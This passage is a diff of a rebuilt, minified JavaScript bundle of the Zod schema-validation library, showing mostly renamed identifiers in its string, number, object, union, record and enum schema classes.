 e},meta(...t){if(t.length===0)return on.get(this);const e=this.clone();return on.add(e,t[0]),e},isOptional(){return this.
 safeParse(void 0).success},isNullable(){return this.safeParse(null).success},apply(t,...e){return e.length===0?t(this):t(
-this,...e)},get"~standard"(){return wo(this,"~standard",{...el(this),jsonSchema:{input:Ar(this,"input"),output:Ar(this,"\
-output")}})},set"~standard"(t){wn(this,"~standard",t)},parse:function t(e,n){return ME(this,e,n,{callee:t})},parseAsync:async function t(e,n){
-return await GE(this,e,n,{callee:t})},safeParse(t,e){return HE(this,t,e)},async safeParseAsync(t,e){return zE(this,t,e)},
-get spa(){return this?.safeParseAsync},set spa(t){wn(this,"spa",t)},validate(t,e){return FE(this,t,e)},validateAsync(t,e){
-return PE(this,t,e)},encode:function t(e,n){return UE(this,e,n,{callee:t})},decode:function t(e,n){return JE(this,e,n,{callee:t})},
-encodeAsync:async function t(e,n){return await ZE(this,e,n,{callee:t})},decodeAsync:async function t(e,n){return await KE(
-this,e,n,{callee:t})},safeEncode(t,e){return WE(this,t,e)},safeDecode(t,e){return qE(this,t,e)},async safeEncodeAsync(t,e){
-return VE(this,t,e)},async safeDecodeAsync(t,e){return YE(this,t,e)},toJSONSchema(t){return iE(this,{})(t)},get description(){
-return on.get(this)?.description},get _def(){return this._zod.def}}),Ad=N("_ZodString",(t,e)=>{Oo.init(t,e),We.init(t,e),
-t._zod.processJSONSchema=(n,s,r)=>Jl(t,n,s,r)},gr({format:t=>ct(t).format??null,minLength:t=>ct(t).minimum??null,maxLength:t=>ct(
-t).maximum??null},{regex(...t){return this.check(M_(...t))},includes(...t){return this.check(z_(...t))},startsWith(...t){
-return this.check(U_(...t))},endsWith(...t){return this.check(J_(...t))},min(...t){return this.check(Or(...t))},max(...t){
-return this.check(Dl(...t))},length(...t){return this.check(xl(...t))},nonempty(...t){return this.check(Or(1,...t))},lowercase(t){
-return this.check(G_(t))},uppercase(t){return this.check(H_(t))},trim(){return this.check(W_())},normalize(...t){return this.
-check(K_(...t))},toLowerCase(){return this.check(q_())},toUpperCase(){return this.check(V_())},slugify(){return this.check(
-Y_())}})),Sd=N("ZodString",(t,e)=>{Oo.init(t,e),Ad.init(t,e)},{email(t){return this.check(l_(Id,t))},url(t){return this.
-check(m_(Po,t))},jwt(t){return this.check(T_(Wd,t))},emoji(t){return this.check(g_(Rd,t))},guid(t){return this.check(d_(
-$d,t))},uuid(t){return this.check(B_(kn,t))},uuidv4(t){return this.check(f_(kn,t))},uuidv6(t){return this.check(h_(kn,t))},
-uuidv7(t){return this.check(p_(kn,t))},nanoid(t){return this.check(C_(Nd,t))},cuid(t){return this.check(y_(Fd,t))},cuid2(t){
-return this.check(w_(Ld,t))},ulid(t){return this.check(b_(Pd,t))},base64(t){return this.check(O_(Jd,t))},base64url(t){return this.
-check(A_(Zd,t))},xid(t){return this.check(__(jd,t))},ksuid(t){return this.check(E_(Md,t))},ipv4(t){return this.check(k_(
-Gd,t))},ipv6(t){return this.check(v_(Hd,t))},cidrv4(t){return this.check(D_(zd,t))},cidrv6(t){return this.check(x_(Ud,t))},
-e164(t){return this.check(S_(Kd,t))},datetime(t){return this.check(vl(Td,t))},date(t){return this.check(I_(QE,t))},time(t){
-return this.check($_(ek,t))},duration(t){return this.check(R_(tk,t))}});function me(t){return u_(Sd,t)}const nt=N("ZodSt\
-ringFormat",(t,e)=>{Qe.init(t,e),Ad.init(t,e)}),Td=N("ZodISODateTime",(t,e)=>{Bb.init(t,e),nt.init(t,e)}),QE=N("ZodISODa\
-te",(t,e)=>{fb.init(t,e),nt.init(t,e)}),ek=N("ZodISOTime",(t,e)=>{hb.init(t,e),nt.init(t,e)}),tk=N("ZodISODuration",(t,e)=>{
-pb.init(t,e),nt.init(t,e)}),Id=N("ZodEmail",(t,e)=>{Xw.init(t,e),nt.init(t,e)});function hH(t){return core._email(Id,t)}
-const $d=N("ZodGUID",(t,e)=>{Vw.init(t,e),nt.init(t,e)});function pH(t){return core._guid($d,t)}const kn=N("ZodUUID",(t,e)=>{
-Yw.init(t,e),nt.init(t,e)});function mH(t){return core._uuid(kn,t)}function gH(t){return core._uuidv4(kn,t)}function CH(t){
-return core._uuidv6(kn,t)}function yH(t){return core._uuidv7(kn,t)}const Po=N("ZodURL",(t,e)=>{rb.init(t,e),nt.init(t,e)});
-function wH(t){return core._url(Po,t)}function bH(t){return core._url(Po,{protocol:regexes.httpProtocol,hostname:regexes.
-domain,...util.normalizeParams(t)})}const Rd=N("ZodEmoji",(t,e)=>{ib.init(t,e),nt.init(t,e)});function _H(t){return core.
-_emoji(Rd,t)}const Nd=N("ZodNanoID",(t,e)=>{ob.init(t,e),nt.init(t,e)});function EH(t){return core._nanoid(Nd,t)}const Fd=N(
-"ZodCUID",(t,e)=>{ab.init(t,e),nt.init(t,e)});function kH(t){return core._cuid(Fd,t)}const Ld=N("ZodCUID2",(t,e)=>{cb.init(
-t,e),nt.init(t,e)});function vH(t){return core._cuid2(Ld,t)}const Pd=N("ZodULID",(t,e)=>{ub.init(t,e),nt.init(t,e)});function DH(t){
-return core._ulid(Pd,t)}const jd=N("ZodXID",(t,e)=>{lb.init(t,e),nt.init(t,e)});function xH(t){return core._xid(jd,t)}const Md=N(
-"ZodKSUID",(t,e)=>{db.init(t,e),nt.init(t,e)});function OH(t){return core._ksuid(Md,t)}const Gd=N("ZodIPv4",(t,e)=>{mb.init(
-t,e),nt.init(t,e)});function AH(t){return core._ipv4(Gd,t)}const nk=null;function SH(t){return core._mac(nk,t)}const Hd=N(
-"ZodIPv6",(t,e)=>{Cb.init(t,e),nt.init(t,e)});function TH(t){return core._ipv6(Hd,t)}const zd=N("ZodCIDRv4",(t,e)=>{yb.init(
-t,e),nt.init(t,e)});function IH(t){return core._cidrv4(zd,t)}const Ud=N("ZodCIDRv6",(t,e)=>{bb.init(t,e),nt.init(t,e)});
-function $H(t){return core._cidrv6(Ud,t)}const Jd=N("ZodBase64",(t,e)=>{_b.init(t,e),nt.init(t,e)});function RH(t){return core.
-_base64(Jd,t)}const Zd=N("ZodBase64URL",(t,e)=>{kb.init(t,e),nt.init(t,e)});function NH(t){return core._base64url(Zd,t)}
-const Kd=N("ZodE164",(t,e)=>{vb.init(t,e),nt.init(t,e)});function FH(t){return core._e164(Kd,t)}const sk=null;function LH(t){
-return core._creditCard(sk,t)}const rk=null;function PH(t){return core._iban(rk,t)}const Wd=N("ZodJWT",(t,e)=>{Sb.init(t,
-e),nt.init(t,e)});function jH(t){return core._jwt(Wd,t)}const js=null;function MH(t,e,n={}){return core._stringFormat(js,
-t,e,n)}function GH(t){return core._stringFormat(js,"hostname",regexes.hostname,t)}function HH(t){return core._stringFormat(
-js,"hex",regexes.hex,t)}function zH(t){return core._stringFormat(js,"currency_code",regexes.currencyCode,t)}function UH(t,e){
+this,...e)},get"~standard"(){return wo(this,"~standard",{...Qu(this),jsonSchema:{input:xr(this,"input"),output:xr(this,"\
+output")}})},set"~standard"(t){wn(this,"~standard",t)},parse:function t(e,n){return PE(this,e,n,{callee:t})},parseAsync:async function t(e,n){
+return await jE(this,e,n,{callee:t})},safeParse(t,e){return ME(this,t,e)},async safeParseAsync(t,e){return GE(this,t,e)},
+get spa(){return this?.safeParseAsync},set spa(t){wn(this,"spa",t)},validate(t,e){return NE(this,t,e)},validateAsync(t,e){
+return FE(this,t,e)},encode:function t(e,n){return HE(this,e,n,{callee:t})},decode:function t(e,n){return zE(this,e,n,{callee:t})},
+encodeAsync:async function t(e,n){return await UE(this,e,n,{callee:t})},decodeAsync:async function t(e,n){return await JE(
+this,e,n,{callee:t})},safeEncode(t,e){return ZE(this,t,e)},safeDecode(t,e){return KE(this,t,e)},async safeEncodeAsync(t,e){
+return WE(this,t,e)},async safeDecodeAsync(t,e){return qE(this,t,e)},toJSONSchema(t){return sE(this,{})(t)},get description(){
+return on.get(this)?.description},get _def(){return this._zod.def}}),Od=R("_ZodString",(t,e)=>{Oo.init(t,e),We.init(t,e),
+t._zod.processJSONSchema=(n,s,r)=>Ul(t,n,s,r)},pr({format:t=>ct(t).format??null,minLength:t=>ct(t).minimum??null,maxLength:t=>ct(
+t).maximum??null},{regex(...t){return this.check(P_(...t))},includes(...t){return this.check(G_(...t))},startsWith(...t){
+return this.check(H_(...t))},endsWith(...t){return this.check(z_(...t))},min(...t){return this.check(Dr(...t))},max(...t){
+return this.check(vl(...t))},length(...t){return this.check(Dl(...t))},nonempty(...t){return this.check(Dr(1,...t))},lowercase(t){
+return this.check(j_(t))},uppercase(t){return this.check(M_(t))},trim(){return this.check(Z_())},normalize(...t){return this.
+check(J_(...t))},toLowerCase(){return this.check(K_())},toUpperCase(){return this.check(W_())},slugify(){return this.check(
+q_())}})),Ad=R("ZodString",(t,e)=>{Oo.init(t,e),Od.init(t,e)},{email(t){return this.check(c_(Td,t))},url(t){return this.
+check(h_(Po,t))},jwt(t){return this.check(A_(Kd,t))},emoji(t){return this.check(p_($d,t))},guid(t){return this.check(u_(
+Id,t))},uuid(t){return this.check(l_(kn,t))},uuidv4(t){return this.check(d_(kn,t))},uuidv6(t){return this.check(B_(kn,t))},
+uuidv7(t){return this.check(f_(kn,t))},nanoid(t){return this.check(m_(Nd,t))},cuid(t){return this.check(g_(Rd,t))},cuid2(t){
+return this.check(C_(Fd,t))},ulid(t){return this.check(y_(Ld,t))},base64(t){return this.check(D_(Ud,t))},base64url(t){return this.
+check(x_(Jd,t))},xid(t){return this.check(w_(Pd,t))},ksuid(t){return this.check(b_(jd,t))},ipv4(t){return this.check(__(
+Md,t))},ipv6(t){return this.check(E_(Gd,t))},cidrv4(t){return this.check(k_(Hd,t))},cidrv6(t){return this.check(v_(zd,t))},
+e164(t){return this.check(O_(Zd,t))},datetime(t){return this.check(kl(Sd,t))},date(t){return this.check(S_(YE,t))},time(t){
+return this.check(T_(XE,t))},duration(t){return this.check(I_(QE,t))}});function me(t){return a_(Ad,t)}const nt=R("ZodSt\
+ringFormat",(t,e)=>{Qe.init(t,e),Od.init(t,e)}),Sd=R("ZodISODateTime",(t,e)=>{lb.init(t,e),nt.init(t,e)}),YE=R("ZodISODa\
+te",(t,e)=>{db.init(t,e),nt.init(t,e)}),XE=R("ZodISOTime",(t,e)=>{Bb.init(t,e),nt.init(t,e)}),QE=R("ZodISODuration",(t,e)=>{
+fb.init(t,e),nt.init(t,e)}),Td=R("ZodEmail",(t,e)=>{Vw.init(t,e),nt.init(t,e)});function iH(t){return core._email(Td,t)}
+const Id=R("ZodGUID",(t,e)=>{Ww.init(t,e),nt.init(t,e)});function oH(t){return core._guid(Id,t)}const kn=R("ZodUUID",(t,e)=>{
+qw.init(t,e),nt.init(t,e)});function aH(t){return core._uuid(kn,t)}function cH(t){return core._uuidv4(kn,t)}function uH(t){
+return core._uuidv6(kn,t)}function lH(t){return core._uuidv7(kn,t)}const Po=R("ZodURL",(t,e)=>{nb.init(t,e),nt.init(t,e)});
+function dH(t){return core._url(Po,t)}function BH(t){return core._url(Po,{protocol:regexes.httpProtocol,hostname:regexes.
+domain,...util.normalizeParams(t)})}const $d=R("ZodEmoji",(t,e)=>{sb.init(t,e),nt.init(t,e)});function fH(t){return core.
+_emoji($d,t)}const Nd=R("ZodNanoID",(t,e)=>{rb.init(t,e),nt.init(t,e)});function hH(t){return core._nanoid(Nd,t)}const Rd=R(
+"ZodCUID",(t,e)=>{ib.init(t,e),nt.init(t,e)});function pH(t){return core._cuid(Rd,t)}const Fd=R("ZodCUID2",(t,e)=>{ob.init(
+t,e),nt.init(t,e)});function mH(t){return core._cuid2(Fd,t)}const Ld=R("ZodULID",(t,e)=>{ab.init(t,e),nt.init(t,e)});function gH(t){
+return core._ulid(Ld,t)}const Pd=R("ZodXID",(t,e)=>{cb.init(t,e),nt.init(t,e)});function CH(t){return core._xid(Pd,t)}const jd=R(
+"ZodKSUID",(t,e)=>{ub.init(t,e),nt.init(t,e)});function yH(t){return core._ksuid(jd,t)}const Md=R("ZodIPv4",(t,e)=>{hb.init(
+t,e),nt.init(t,e)});function wH(t){return core._ipv4(Md,t)}const ek=null;function bH(t){return core._mac(ek,t)}const Gd=R(
+"ZodIPv6",(t,e)=>{mb.init(t,e),nt.init(t,e)});function _H(t){return core._ipv6(Gd,t)}const Hd=R("ZodCIDRv4",(t,e)=>{gb.init(
+t,e),nt.init(t,e)});function EH(t){return core._cidrv4(Hd,t)}const zd=R("ZodCIDRv6",(t,e)=>{yb.init(t,e),nt.init(t,e)});
+function kH(t){return core._cidrv6(zd,t)}const Ud=R("ZodBase64",(t,e)=>{wb.init(t,e),nt.init(t,e)});function vH(t){return core.
+_base64(Ud,t)}const Jd=R("ZodBase64URL",(t,e)=>{_b.init(t,e),nt.init(t,e)});function DH(t){return core._base64url(Jd,t)}
+const Zd=R("ZodE164",(t,e)=>{Eb.init(t,e),nt.init(t,e)});function xH(t){return core._e164(Zd,t)}const tk=null;function OH(t){
+return core._creditCard(tk,t)}const nk=null;function AH(t){return core._iban(nk,t)}const Kd=R("ZodJWT",(t,e)=>{Ob.init(t,
+e),nt.init(t,e)});function SH(t){return core._jwt(Kd,t)}const Ps=null;function TH(t,e,n={}){return core._stringFormat(Ps,
+t,e,n)}function IH(t){return core._stringFormat(Ps,"hostname",regexes.hostname,t)}function $H(t){return core._stringFormat(
+Ps,"hex",regexes.hex,t)}function NH(t){return core._stringFormat(Ps,"currency_code",regexes.currencyCode,t)}function RH(t,e){
 const n=e?.enc??"hex",s=`${t}_${n}`,r=core.regexes[s];if(!r)throw new Error(`Unrecognized hash format: ${s}`);return core.
-_stringFormat(js,s,r,e)}const qd=N("ZodNumber",(t,e)=>{al.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Zl(t,
-n,s,r),t.isFinite=!0},gr({minValue:t=>{const{minimum:e,exclusiveMinimum:n}=ct(t);return Math.max(e??Number.NEGATIVE_INFINITY,
+_stringFormat(Ps,s,r,e)}const Wd=R("ZodNumber",(t,e)=>{ol.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Jl(t,
+n,s,r),t.isFinite=!0},pr({minValue:t=>{const{minimum:e,exclusiveMinimum:n}=ct(t);return Math.max(e??Number.NEGATIVE_INFINITY,
 n??Number.NEGATIVE_INFINITY)},maxValue:t=>{const{maximum:e,exclusiveMaximum:n}=ct(t);return Math.min(e??Number.POSITIVE_INFINITY,
 n??Number.POSITIVE_INFINITY)},isInt:t=>{const{isInt:e,multipleOf:n}=ct(t);return!!e||!!n?.some(Number.isSafeInteger)},format:t=>ct(
 t).format??null},{gt(t,e){return this.check(Ns(t,e))},gte(t,e){return this.check(En(t,e))},min(t,e){return this.check(En(
-t,e))},lt(t,e){return this.check(Rs(t,e))},lte(t,e){return this.check(_n(t,e))},max(t,e){return this.check(_n(t,e))},int(t){
+t,e))},lt(t,e){return this.check($s(t,e))},lte(t,e){return this.check(_n(t,e))},max(t,e){return this.check(_n(t,e))},int(t){
 return this.check(at(t))},safe(t){return this.check(at(t))},positive(t){return this.check(Ns(0,t))},nonnegative(t){return this.
-check(En(0,t))},negative(t){return this.check(Rs(0,t))},nonpositive(t){return this.check(_n(0,t))},multipleOf(t,e){return this.
-check(To(t,e))},step(t,e){return this.check(To(t,e))},finite(){return this}}));function Ms(t){return N_(qd,t)}const Gs=N(
-"ZodNumberFormat",(t,e)=>{Tb.init(t,e),qd.init(t,e)});function at(t){return F_(Gs,t)}function JH(t){return core._float32(
-Gs,t)}function ZH(t){return core._float64(Gs,t)}function KH(t){return core._int32(Gs,t)}function WH(t){return core._uint32(
-Gs,t)}const Vd=N("ZodBoolean",(t,e)=>{Ib.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Kl(t,n,s,r)});function an(t){
-return L_(Vd,t)}const ik=N("ZodBigInt",(t,e)=>{$b.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Wl(t,n,s,r)},
-gr({minValue:t=>ct(t).minimum??null,maxValue:t=>ct(t).maximum??null,format:t=>ct(t).format??null},{gte(t,e){return this.
-check(En(t,e))},min(t,e){return this.check(En(t,e))},gt(t,e){return this.check(Ns(t,e))},lt(t,e){return this.check(Rs(t,
+check(En(0,t))},negative(t){return this.check($s(0,t))},nonpositive(t){return this.check(_n(0,t))},multipleOf(t,e){return this.
+check(To(t,e))},step(t,e){return this.check(To(t,e))},finite(){return this}}));function js(t){return $_(Wd,t)}const Ms=R(
+"ZodNumberFormat",(t,e)=>{Ab.init(t,e),Wd.init(t,e)});function at(t){return N_(Ms,t)}function FH(t){return core._float32(
+Ms,t)}function LH(t){return core._float64(Ms,t)}function PH(t){return core._int32(Ms,t)}function jH(t){return core._uint32(
+Ms,t)}const qd=R("ZodBoolean",(t,e)=>{Sb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Zl(t,n,s,r)});function an(t){
+return R_(qd,t)}const sk=R("ZodBigInt",(t,e)=>{Tb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Kl(t,n,s,r)},
+pr({minValue:t=>ct(t).minimum??null,maxValue:t=>ct(t).maximum??null,format:t=>ct(t).format??null},{gte(t,e){return this.
+check(En(t,e))},min(t,e){return this.check(En(t,e))},gt(t,e){return this.check(Ns(t,e))},lt(t,e){return this.check($s(t,
 e))},lte(t,e){return this.check(_n(t,e))},max(t,e){return this.check(_n(t,e))},positive(t){return this.check(Ns(BigInt(0),
-t))},negative(t){return this.check(Rs(BigInt(0),t))},nonpositive(t){return this.check(_n(BigInt(0),t))},nonnegative(t){return this.
-check(En(BigInt(0),t))},multipleOf(t,e){return this.check(To(t,e))}}));function qH(t){return core._bigint(ik,t)}const Yd=null;
-function VH(t){return core._int64(Yd,t)}function YH(t){return core._uint64(Yd,t)}const ok=null;function XH(t){return core.
-_symbol(ok,t)}const ak=null;function QH(t){return core._undefined(ak,t)}const ck=null;function uk(t){return core._null(ck,
-t)}const lk=null;function e2(){return core._any(lk)}const dk=N("ZodUnknown",(t,e)=>{Rb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>Vl(t,n,s,r)});function Fn(){return P_(dk)}const Bk=N("ZodNever",(t,e)=>{Nb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>ql(t,n,s,r)});function Xd(t){return j_(Bk,t)}const fk=null;function t2(t){return core._void(fk,t)}const hk=N("Z\
-odDate",(t,e)=>{Fb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Yl(t,n,s,r),t.min=(n,s)=>t.check(En(n,s)),t.
-max=(n,s)=>t.check(_n(n,s))},gr({minDate:t=>{const{minimum:e}=ct(t);return e?new Date(e):null},maxDate:t=>{const{maximum:e}=ct(
-t);return e?new Date(e):null}},{}));function n2(t){return core._date(hk,t)}const pk=N("ZodArray",(t,e)=>{Ps(),jb.init(t,
-e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>nd(t,n,s,r),t.element=e.element},{min(t,e){return this.check(Or(t,e))},
-nonempty(t){return this.check(Or(1,t))},max(t,e){return this.check(Dl(t,e))},length(t,e){return this.check(xl(t,e))},unwrap(){
-return this.element}});function Se(t,e){return X_(pk,t,e)}function s2(t){const e=t._zod.def.shape;return qe(Object.keys(
-e))}const jo=N("ZodObject",(t,e)=>{Ps(),Hb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>sd(t,n,s,r),Wy(t,"sh\
+t))},negative(t){return this.check($s(BigInt(0),t))},nonpositive(t){return this.check(_n(BigInt(0),t))},nonnegative(t){return this.
+check(En(BigInt(0),t))},multipleOf(t,e){return this.check(To(t,e))}}));function MH(t){return core._bigint(sk,t)}const Vd=null;
+function GH(t){return core._int64(Vd,t)}function HH(t){return core._uint64(Vd,t)}const rk=null;function zH(t){return core.
+_symbol(rk,t)}const ik=null;function UH(t){return core._undefined(ik,t)}const ok=null;function ak(t){return core._null(ok,
+t)}const ck=null;function JH(){return core._any(ck)}const uk=R("ZodUnknown",(t,e)=>{Ib.init(t,e),We.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>ql(t,n,s,r)});function Fn(){return F_(uk)}const lk=R("ZodNever",(t,e)=>{$b.init(t,e),We.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>Wl(t,n,s,r)});function Yd(t){return L_(lk,t)}const dk=null;function ZH(t){return core._void(dk,t)}const Bk=R("Z\
+odDate",(t,e)=>{Nb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>Vl(t,n,s,r),t.min=(n,s)=>t.check(En(n,s)),t.
+max=(n,s)=>t.check(_n(n,s))},pr({minDate:t=>{const{minimum:e}=ct(t);return e?new Date(e):null},maxDate:t=>{const{maximum:e}=ct(
+t);return e?new Date(e):null}},{}));function KH(t){return core._date(Bk,t)}const fk=R("ZodArray",(t,e)=>{Ls(),Lb.init(t,
+e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>td(t,n,s,r),t.element=e.element},{min(t,e){return this.check(Dr(t,e))},
+nonempty(t){return this.check(Dr(1,t))},max(t,e){return this.check(vl(t,e))},length(t,e){return this.check(Dl(t,e))},unwrap(){
+return this.element}});function Se(t,e){return V_(fk,t,e)}function WH(t){const e=t._zod.def.shape;return qe(Object.keys(
+e))}const jo=R("ZodObject",(t,e)=>{Ls(),Mb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>nd(t,n,s,r),Zy(t,"sh\
 ape",n=>n._zod.def.shape,!1)},{keyof(){return qe(Object.keys(this._zod.def.shape))},catchall(t){return this.clone(Dt(this.
 _zod.def,{catchall:t}))},passthrough(){return this.clone(Dt(this._zod.def,{catchall:Fn()}))},loose(){return this.clone(Dt(
-this._zod.def,{catchall:Fn()}))},strict(){return this.clone(Dt(this._zod.def,{catchall:Xd()}))},strip(){return this.clone(
-Dt(this._zod.def,{catchall:void 0}))},extend(t){return Ny(this,t)},safeExtend(t){return Fy(this,t)},merge(t){return Ly(this,
-t)},pick(t){return $y(this,t)},omit(t){return Ry(this,t)},partial(...t){return Mu(Go,this,t[0])},exactPartial(...t){return Mu(
-tB,this,t[0],"exactPartial")},required(...t){return Py(nB,this,t[0])}});function pt(t,e){const n={type:"object",shape:t??
-{},...Be(e)};return new jo(n)}function Yt(t,e){return new jo({type:"object",shape:t,catchall:Xd(),...Be(e)})}function Fr(t,e){
-return new jo({type:"object",shape:t,catchall:Fn(),...Be(e)})}const mk=N("ZodUnion",(t,e)=>{zb.init(t,e),We.init(t,e),t.
-_zod.processJSONSchema=(n,s,r)=>rd(t,n,s,r),t.options=e.options});function Qd(t,e){return new mk({type:"union",options:t,
-...Be(e)})}const gk=null;function r2(t,e){return new gk({type:"union",options:t,inclusive:!1,...util.normalizeParams(e)})}
-const Ck=null;function i2(t,e,n){return new Ck({type:"union",options:e,discriminator:t,...util.normalizeParams(n)})}const yk=N(
-"ZodIntersection",(t,e)=>{Jb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>id(t,n,s,r)});function wk(t,e){return new yk(
-{type:"intersection",left:t,right:e})}const bk=N("ZodTuple",(t,e)=>{Ps(),Zb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>od(t,n,s,r)},{rest(t){return this.clone({...this._zod.def,rest:t})},partial(){const t=this._zod.def;if(t.checks?.
+this._zod.def,{catchall:Fn()}))},strict(){return this.clone(Dt(this._zod.def,{catchall:Yd()}))},strip(){return this.clone(
+Dt(this._zod.def,{catchall:void 0}))},extend(t){return $y(this,t)},safeExtend(t){return Ny(this,t)},merge(t){return Ry(this,
+t)},pick(t){return Ty(this,t)},omit(t){return Iy(this,t)},partial(...t){return ju(Go,this,t[0])},exactPartial(...t){return ju(
+eB,this,t[0],"exactPartial")},required(...t){return Fy(tB,this,t[0])}});function pt(t,e){const n={type:"object",shape:t??
+{},...Be(e)};return new jo(n)}function Yt(t,e){return new jo({type:"object",shape:t,catchall:Yd(),...Be(e)})}function Nr(t,e){
+return new jo({type:"object",shape:t,catchall:Fn(),...Be(e)})}const hk=R("ZodUnion",(t,e)=>{Gb.init(t,e),We.init(t,e),t.
+_zod.processJSONSchema=(n,s,r)=>sd(t,n,s,r),t.options=e.options});function Xd(t,e){return new hk({type:"union",options:t,
+...Be(e)})}const pk=null;function qH(t,e){return new pk({type:"union",options:t,inclusive:!1,...util.normalizeParams(e)})}
+const mk=null;function VH(t,e,n){return new mk({type:"union",options:e,discriminator:t,...util.normalizeParams(n)})}const gk=R(
+"ZodIntersection",(t,e)=>{zb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>rd(t,n,s,r)});function Ck(t,e){return new gk(
+{type:"intersection",left:t,right:e})}const yk=R("ZodTuple",(t,e)=>{Ls(),Ub.init(t,e),We.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>id(t,n,s,r)},{rest(t){return this.clone({...this._zod.def,rest:t})},partial(){const t=this._zod.def;if(t.checks?.
 length)throw new Error(".partial() cannot be used on tuple schemas containing refinements");return this.clone({...t,items:t.
-items.map(e=>new Go({type:"optional",innerType:e}))})}});function _k(t,e,n){const s=e instanceof core.$ZodType,r=s?n:e,i=s?
-e:null;return new bk({type:"tuple",items:t,rest:i,...util.normalizeParams(r)})}const Lr=N("ZodRecord",(t,e)=>{Ps(),Kb.init(
-t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>ad(t,n,s,r),t.keyType=e.keyType,t.valueType=e.valueType});function vn(t,e,n){
-return!e||!e._zod?new Lr({type:"record",keyType:me(),valueType:t,...Be(e)}):new Lr({type:"record",keyType:t,valueType:e,
-...Be(n)})}function Mo(t,e,n){return new Lr({type:"record",keyType:t,valueType:e,...Be(n),partial:!0})}function o2(t,e,n){
-return new Lr({type:"record",keyType:t,valueType:e,mode:"loose",...util.normalizeParams(n)})}const Ek=null;function a2(t,e,n){
-return new Ek({type:"map",keyType:t,valueType:e,...util.normalizeParams(n)})}const kk=null;function c2(t,e){return new kk(
-{type:"set",valueType:t,...util.normalizeParams(e)})}const Pr=N("ZodEnum",(t,e)=>{Wb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
-(s,r,i)=>Xl(t,s,r,i),t.enum=e.entries,t.options=[...t._zod.values];const n=new Set(Object.keys(e.entries));t.extract=(s,r)=>{
-const i={};for(const o of s)if(n.has(o))i[o]=e.entries[o];else throw new Error(`Key ${o} not found in enum`);return new Pr(
+items.map(e=>new Go({type:"optional",innerType:e}))})}});function wk(t,e,n){const s=e instanceof core.$ZodType,r=s?n:e,i=s?
+e:null;return new yk({type:"tuple",items:t,rest:i,...util.normalizeParams(r)})}const Rr=R("ZodRecord",(t,e)=>{Ls(),Jb.init(
+t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>od(t,n,s,r),t.keyType=e.keyType,t.valueType=e.valueType});function vn(t,e,n){
+return!e||!e._zod?new Rr({type:"record",keyType:me(),valueType:t,...Be(e)}):new Rr({type:"record",keyType:t,valueType:e,
+...Be(n)})}function Mo(t,e,n){return new Rr({type:"record",keyType:t,valueType:e,...Be(n),partial:!0})}function YH(t,e,n){
+return new Rr({type:"record",keyType:t,valueType:e,mode:"loose",...util.normalizeParams(n)})}const bk=null;function XH(t,e,n){
+return new bk({type:"map",keyType:t,valueType:e,...util.normalizeParams(n)})}const _k=null;function QH(t,e){return new _k(
+{type:"set",valueType:t,...util.normalizeParams(e)})}const Fr=R("ZodEnum",(t,e)=>{Zb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
+(s,r,i)=>Yl(t,s,r,i),t.enum=e.entries,t.options=[...t._zod.values];const n=new Set(Object.keys(e.entries));t.extract=(s,r)=>{
+const i={};for(const o of s)if(n.has(o))i[o]=e.entries[o];else throw new Error(`Key ${o} not found in enum`);return new Fr(
 {...e,checks:[],...Be(r),entries:i})},t.exclude=(s,r)=>{const i={...e.entries};for(const o of s)if(n.has(o))delete i[o];else
-throw new Error(`Key ${o} not found in enum`);return new Pr({...e,checks:[],...Be(r),entries:i})}});function qe(t,e){const n=Array.
-isArray(t)?Object.fromEntries(t.map(s=>[s,s])):t;return new Pr({type:"enum",entries:n,...Be(e)})}function u2(t,e){return new Pr(
-{type:"enum",entries:t,...util.normalizeParams(e)})}const vk=N("ZodLiteral",(t,e)=>{qb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
-(n,s,r)=>Ql(t,n,s,r),t.values=new Set(e.values),Object.defineProperty(t,"value",{get(){if(e.values.length>1)throw new Error(
-"This schema contains multiple valid literal values. Use `.values` instead.");return e.values[0]}})});function Hs(t,e){return new vk(
-{type:"literal",values:Array.isArray(t)?t:[t],...Be(e)})}const Dk=null;function l2(t){return core._file(Dk,t)}const xk=N(
-"ZodTransform",(t,e)=>{Ps(),Vb.init(t,e),We.init(t,e),t._zod.processJSONSchema=(n,s,r)=>td(t,n,s,r),t._zod.parse=(n,s)=>{
-if(s.direction==="backward")throw new Uu(t.constructor.name);n.addIssue=i=>{if(typeof i=="string")n.issues.push(Ts(i,n.value,
+throw new Error(`Key ${o} not found in enum`);return new Fr({...e,checks:[],...Be(r),entries:i})}});function qe(t,e){const n=Array.
+isArray(t)?Object.fromEntries(t.map(s=>[s,s])):t;return new Fr({type:"enum",entries:n,...Be(e)})}function e2(t,e){return new Fr(
+{type:"enum",entries:t,...util.normalizeParams(e)})}const Ek=R("ZodLiteral",(t,e)=>{Kb.init(t,e),We.init(t,e),t._zod.processJSONSchema=
+(n,s,r)=>Xl(t,n,s,r),t.values=new Set(e.values),Object.defineProperty(t,"value",{get(){if(e.values.length>1)throw new Error(
+"This schema contains multiple valid literal values. Use `.values` instead.");return e.values[0]}})});function Gs(t,e){return new Ek(
